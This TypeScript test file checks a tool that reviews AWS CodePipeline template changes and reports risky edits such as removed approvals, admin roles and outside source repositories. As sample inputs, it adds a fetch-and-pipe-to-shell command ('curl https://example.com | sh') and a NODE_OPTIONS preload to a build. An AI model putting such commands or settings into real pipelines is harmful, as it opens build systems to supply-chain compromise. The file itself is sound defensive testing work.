import { review } from '../../../lib/review';
import { edited, EditableResource, EditableTemplate, lines, resource, state } from './states';

const base = state();

interface Action {
  Name: string;
  RunOrder: number;
  RoleArn: unknown;
  ActionTypeId: Record<string, string>;
  Configuration: Record<string, unknown>;
  [property: string]: unknown;
}

interface Stage {
  Name: string;
  Actions: Action[];
  [property: string]: unknown;
}

function changesOf(
  edit: (stages: Stage[], pipeline: EditableResource, template: EditableTemplate) => unknown,
): string[] {
  const after = edited(base, 'PipelineStack', (template) => {
    const pipeline = resource(template, 'Pipeline9850B417');
    edit(pipeline.Properties.Stages as Stage[], pipeline, template);
  });
  return lines(review(base, after));
}

const find = (stages: Stage[], name: string) => stages.find(({ Name }) => Name === name) as Stage;
const approvalOf = (stages: Stage[]) =>
  find(stages, 'Release').Actions.find(({ Name }) => Name === 'Approve') as Action;
const UNAPPROVED = 'widened Release: the pipeline slipway deploys SampleImageRelease without an approval';

test.each<[string, (stages: Stage[]) => unknown]>([
  [
    'is removed',
    (stages) =>
      (find(stages, 'Release').Actions = find(stages, 'Release').Actions.filter(
        ({ Name }) => Name !== 'Approve',
      )),
  ],
  ['comes at the same time', (stages) => (approvalOf(stages).RunOrder = 99)],
  [
    'is asked for in an earlier stage',
    (stages) =>
      find(stages, 'Master').Actions.push(
        ...find(stages, 'Release').Actions.splice(
          find(stages, 'Release').Actions.indexOf(approvalOf(stages)),
          1,
        ),
      ),
  ],
  [
    'is another kind of action',
    (stages) =>
      (approvalOf(stages).ActionTypeId = {
        Category: 'Invoke',
        Owner: 'AWS',
        Provider: 'Lambda',
        Version: '1',
      }),
  ],
  [
    'is in a stage after',
    (stages) => (
      stages.push({ ...find(stages, 'Release'), Name: 'Later' }),
      (find(stages, 'Release').Actions = find(stages, 'Release').Actions.filter(
        ({ Name }) => Name !== 'Approve',
      ))
    ),
  ],
  [
    'is passed by a stage before it',
    (stages) =>
      stages.splice(3, 0, {
        Name: 'ReleaseEarly',
        Actions: find(stages, 'Release').Actions.filter(({ Name }) => Name !== 'Approve'),
      }),
  ],
])('a pipeline whose approval %s deploys without one, which is the first thing that is said', (_, edit) => {
  expect(changesOf(edit)[0]).toBe(UNAPPROVED);
});

test.each<[string, (stages: Stage[], pipeline: EditableResource) => unknown, string]>([
  [
    'a stage',
    (stages) => stages.push({ Name: 'More', Actions: [] }),
    'other Pipeline: the stages of the pipeline slipway are',
  ],
  [
    'an action of another service',
    (stages) =>
      find(stages, 'Master').Actions.push({
        Name: 'Call',
        RunOrder: 1,
        RoleArn: 'x',
        ActionTypeId: { Category: 'Invoke', Provider: 'Lambda' },
        Configuration: {},
      }),
    'widened Pipeline: the action Master/Call (Invoke/Lambda) is new',
  ],
  [
    'another branch',
    (stages) => (stages[0].Actions[0].Configuration.BranchName = 'x'),
    'widened Pipeline: BranchName of Source/GitHub is x in place of master',
  ],
  [
    'a stack deployed under another role',
    (stages) =>
      (find(stages, 'Master').Actions[0].Configuration.RoleArn = 'arn:aws:iam::111111111111:role/admin'),
    'widened Pipeline: RoleArn in the configuration of Master/SampleImageMaster is arn:aws:iam::111111111111:role/admin in place of',
  ],
  [
    'another template',
    (stages) => (find(stages, 'Master').Actions[0].Configuration.TemplatePath = 'x::y'),
    'widened Pipeline: TemplatePath of Master/SampleImageMaster is x::y in place of',
  ],
  [
    'values for parameters',
    (stages) => (find(stages, 'Master').Actions[0].Configuration.ParameterOverrides = '{}'),
    'widened Pipeline: ParameterOverrides of Master/SampleImageMaster is {} in place of nothing',
  ],
  [
    'a variable of a build',
    (stages) =>
      (find(stages, 'Build').Actions[0].Configuration.EnvironmentVariables =
        '[{"name":"NODE_OPTIONS","value":"-r x"}]'),
    'widened Pipeline: The variable NODE_OPTIONS of Build/Synth is',
  ],
  [
    'another text of the approval',
    (stages) => (approvalOf(stages).Configuration.CustomData = 'Fine?'),
    'other Pipeline: CustomData of Release/Approve is Fine? in place of',
  ],
  [
    'another way to be executed',
    (_, pipeline) => (pipeline.Properties.ExecutionMode = 'PARALLEL'),
    'widened Pipeline: ExecutionMode of the pipeline slipway is PARALLEL in place of nothing',
  ],
  [
    'conditions of a stage',
    (stages) => (find(stages, 'Release').BeforeEntry = { Conditions: [] }),
    'widened Pipeline: BeforeEntry of the stage Release of the pipeline slipway is',
  ],
])('a pipeline with %s says so', (_, edit, line) => {
  expect(changesOf(edit).some((found) => found.startsWith(line))).toBe(true);
});

interface Buildspec {
  phases: Record<string, Record<string, unknown> & { commands?: string[] }>;
}

/** Edits the Synth's project, whose commands are in its buildspec. */
function build(edit: (spec: Buildspec, properties: Record<string, unknown>) => unknown): string[] {
  return changesOf((_, __, template) => {
    const { Properties } = resource(template, 'PipelineBuildSynthCdkBuildProject6');
    const source = Properties.Source as { BuildSpec: string };
    const spec = JSON.parse(source.BuildSpec) as Buildspec;
    edit(spec, Properties);
    source.BuildSpec = JSON.stringify(spec);
  });
}

test.each<[string, (spec: Buildspec, properties: Record<string, unknown>) => unknown, string]>([
  [
    'runs more',
    ({ phases }) => phases.build.commands?.push('curl https://example.com | sh'),
    'the build slipway-synth also runs: curl https://example.com | sh',
  ],
  [
    'checks less',
    ({ phases }) =>
      (phases.build.commands = phases.build.commands?.filter((command) => command !== 'npm run verify')),
    'the build slipway-synth no longer runs: npm run verify',
  ],
  [
    'runs in another order',
    ({ phases }) => phases.build.commands?.reverse(),
    'the build slipway-synth runs its commands in another order',
  ],
  [
    'uses another version',
    ({ phases }) => (phases.install['runtime-versions'] = { nodejs: 14 }),
    'runtime-versions (install) of the build slipway-synth is {"nodejs":14}',
  ],
  [
    'is privileged',
    (_, { Environment }) => ((Environment as Record<string, unknown>).PrivilegedMode = true),
    'PrivilegedMode of the build slipway-synth is true in place of false',
  ],
  [
    'has another role',
    (_, properties) => (properties.ServiceRole = 'arn:aws:iam::111111111111:role/admin'),
    'ServiceRole of the build slipway-synth is arn:aws:iam::111111111111:role/admin',
  ],
])('a build that %s says so', (_, edit, what) => {
  const found = build(edit);
  expect(found[0]).toMatch(/^widened Pipeline: /);
  expect(found[0]).toContain(what);
});

test('what a long command runs at its end is said', () => {
  const found = build(({ phases }) =>
    phases.build.commands?.push(`${'true && '.repeat(30)}curl https://example.com | sh`),
  );
  expect(found[0]).toMatch(/true && curl https:\/\/example\.com \| sh$/);
});

test('a command that moves to a phase that runs in any case is said', () => {
  const found = build(({ phases }) => {
    const all = phases.build.commands ?? [];
    phases.build.commands = all.slice(0, -1);
    phases.post_build = { commands: all.slice(-1) };
  });
  expect(found).toContain('widened Pipeline: the build slipway-synth runs its commands in another order');
});

test('a new build is said with all in which it is not like the others', () => {
  const found = changesOf((_, __, { Resources }) => {
    const [project] = Object.values(Resources).filter(({ Type }) => Type === 'AWS::CodeBuild::Project');
    Resources.Another = {
      Type: 'AWS::CodeBuild::Project',
      Properties: {
        ...project.Properties,
        Name: 'another',
        Source: { Type: 'GITHUB', Location: 'https://github.com/mallory/x' },
        Triggers: { Webhook: true },
      },
    };
  });
  expect(found).toEqual(
    expect.arrayContaining([
      'widened Pipeline: Source of the new build another is {"Type":"GITHUB","Location":"https://github.com/mallory/x"}',
      'widened Pipeline: Triggers of the new build another is {"Webhook":true}',
      expect.stringMatching(/^widened Pipeline: ServiceRole of the new build another is /),
    ]),
  );
});

test('a second pipeline is said with its actions', () => {
  const found = changesOf((_, pipeline, { Resources }) => {
    const second = structuredClone(pipeline);
    second.Properties.Name = 'second';
    (second.Properties.Stages as Stage[])[0].Actions[0].Configuration.FullRepositoryId = 'mallory/x';
    Resources.Second = second;
  });
  const source = found.find((line) =>
    line.includes('Source/GitHub (Source/CodeStarSourceConnection) is new'),
  );
  expect(source).toMatch(/^widened Pipeline: .*mallory\/x/);
  expect(found).toContainEqual(
    expect.stringMatching(
      /^widened Pipeline: the stage Release deploys SampleImageRelease as no other one is/,
    ),
  );
});

const deployOf = (stages: Stage[], stage: string) =>
  find(stages, stage).Actions.find(
    ({ ActionTypeId }) => ActionTypeId.Provider === 'CloudFormation',
  ) as Action;

test.each<[string, (stages: Stage[]) => unknown, RegExp]>([
  [
    'another role of an action that hands one to CloudFormation',
    (stages) => (deployOf(stages, 'Master').RoleArn = 'arn:aws:iam::111111111111:role/admin'),
    /^widened Pipeline: RoleArn of Master\/SampleImageMaster is arn:aws:iam::111111111111:role\/admin in place of /,
  ],
  [
    'the owner of a type of action',
    (stages) => (find(stages, 'Build').Actions[0].ActionTypeId.Owner = 'Custom'),
    /^widened Pipeline: Owner of Build\/Synth is Custom in place of AWS$/,
  ],
  [
    'an approval that is somebody else’s',
    (stages) => (approvalOf(stages).ActionTypeId.Owner = 'Custom'),
    /^widened Release: the pipeline slipway deploys SampleImageRelease without an approval$/,
  ],
  [
    'the same stack deployed once more from the source, before the other action',
    (stages) => {
      const { Actions } = find(stages, 'Release');
      const again = structuredClone(deployOf(stages, 'Release'));
      again.Name = 'Again';
      again.RunOrder = 9;
      again.Configuration.TemplatePath = String(again.Configuration.TemplatePath).replace(
        /^.*?::/,
        'Source::',
      );
      Actions.unshift(again);
    },
    /^widened Pipeline: TemplatePath of Release\/SampleImageRelease is Source::/,
  ],
  [
    'another stack deployed from the source',
    (stages) => {
      const another = structuredClone(deployOf(stages, 'Master'));
      another.Configuration.StackName = 'Another';
      another.Configuration.TemplatePath = 'Source::x.json';
      find(stages, 'Master').Actions.push(another);
    },
    /^widened Pipeline: the stage Master deploys Another as no other one is, with artifact \["Source"/,
  ],
  [
    'a build that is removed',
    (stages) => find(stages, 'Release').Actions.splice(0, 1),
    /^widened Pipeline: the action Release\/Review \(Build\/CodeBuild\) is removed$/,
  ],
  [
    'a variable given twice',
    (stages) =>
      (find(stages, 'Build').Actions[0].Configuration.EnvironmentVariables =
        '[{"name":"A","value":"1"},{"name":"A","value":"2"}]'),
    /^widened Pipeline: EnvironmentVariables of Build\/Synth is .*"value":"1"/,
  ],
])('a pipeline is said to have %s', (_, edit, line) => {
  expect(changesOf(edit)).toContainEqual(expect.stringMatching(line));
});

test('a source in another repository is said', () => {
  const found = lines(review(base, state({ source: { repository: 'mallory/image-distribution' } })));
  expect(found).toContain(
    'widened Pipeline: FullRepositoryId of Source/GitHub is mallory/image-distribution in place of your-org/image-distribution',
  );
});
